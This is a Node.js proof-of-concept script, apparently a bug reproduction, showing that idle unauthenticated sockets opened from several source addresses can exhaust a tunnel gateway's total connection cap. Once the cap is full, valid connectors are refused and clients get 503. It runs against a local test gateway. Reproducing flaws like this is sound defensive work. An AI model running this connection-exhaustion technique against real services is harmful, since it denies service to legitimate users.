// Unauthenticated idle sockets from a few addresses fill the gateway's *total* connection cap,
// which tunnels share with clients: a connector with a valid token can no longer connect, and
// every client gets 503, for as long as the sockets are re-opened (each lives ~20-25 s).
// Defaults (8192 total, 2048 per address) need only 4 addresses; this uses a gateway started
// with --max-connections 40 --max-connections-per-address 10.
// Usage: TOKIOS_TUNNEL_TOKEN=tt-… node repro/connection-cap-lockout.mjs PORT [addresses=4] [perAddress=10]
import net from 'node:net';
import WebSocket from 'ws';
const [port, addresses = '4', per = '10'] = process.argv.slice(2);
const sockets = [];
let stop = false;
const hold = (address) => {
  const s = net.connect({ port: Number(port), host: '127.0.0.1', localAddress: address });
  s.on('error', () => undefined);
  s.on('close', () => { if (!stop) setTimeout(() => hold(address), 100); });
  sockets.push(s);
};
for (let a = 0; a < Number(addresses); a++) for (let i = 0; i < Number(per); i++) hold(`127.0.0.${10 + a}`);
await new Promise((r) => setTimeout(r, 1000));
const tunnel = await new Promise((resolve) => {
  const ws = new WebSocket(`ws://127.0.0.1:${port}/v1/tunnel`, 'tokios-tunnel.v1', { headers: { authorization: `Bearer ${process.env.TOKIOS_TUNNEL_TOKEN}` } });
  ws.on('open', () => { ws.terminate(); resolve('tunnel accepted'); });
  ws.on('unexpected-response', (_req, res) => resolve(`tunnel refused: ${res.statusCode}`));
  ws.on('error', (e) => resolve(`tunnel failed: ${e.message}`));
});
const health = await fetch(`http://127.0.0.1:${port}/healthz`).then((r) => `healthz ${r.status}`, (e) => `healthz failed: ${e.cause?.code ?? e}`);
console.log(`${sockets.length} idle unauthenticated sockets from ${addresses} addresses; a connector with a valid token: ${tunnel}; ${health}`);
stop = true;
for (const s of sockets) s.destroy();
